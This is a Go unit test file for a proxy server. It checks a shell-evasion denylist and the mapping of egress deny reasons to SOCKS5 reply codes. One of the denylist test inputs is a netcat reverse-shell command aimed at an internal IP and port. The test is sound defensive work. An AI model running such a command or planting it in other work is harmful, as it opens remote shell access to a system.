package srv

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/galti3r/s5/lib/egress"
	"github.com/galti3r/s5/lib/socks5"
)

func TestIsShellEvasionBlocksDenylistedBinaries(t *testing.T) {
	cases := []struct {
		command string
		denied  bool
	}{
		{"bash -c 'id'", true},
		{"/bin/bash", true},
		{"/usr/bin/nc -e /bin/sh 10.0.0.1 4444", true},
		{"rsync -av src dst", true},
		{"scp file.txt user@host:", true},
		{"ls -la", false},
		{"", false},
		{"  ", false},
	}
	for _, c := range cases {
		require.Equal(t, c.denied, isShellEvasion(c.command), "command %q", c.command)
	}
}

func TestReplyCodeForMapsDenyReasons(t *testing.T) {
	cases := []struct {
		err  error
		code byte
	}{
		{&egress.DeniedError{Reason: egress.DenyBadPort}, socks5.ReplyAddressUnsupported},
		{&egress.DeniedError{Reason: egress.DenyResolution}, socks5.ReplyHostUnreachable},
		{&egress.DeniedError{Reason: egress.DenyPrivateAddress}, socks5.ReplyRulesetDenied},
		{&egress.DeniedError{Reason: egress.DenyGeo}, socks5.ReplyRulesetDenied},
		{&egress.DeniedError{Reason: egress.DenyACL}, socks5.ReplyRulesetDenied},
		{&egress.DeniedError{Reason: egress.DenyForwardingNotAllowed}, socks5.ReplyRulesetDenied},
		{assertUnrelatedError{}, socks5.ReplyGeneralFailure},
	}
	for _, c := range cases {
		require.Equal(t, c.code, replyCodeFor(c.err))
	}
}

type assertUnrelatedError struct{}

func (assertUnrelatedError) Error() string { return "unrelated" }
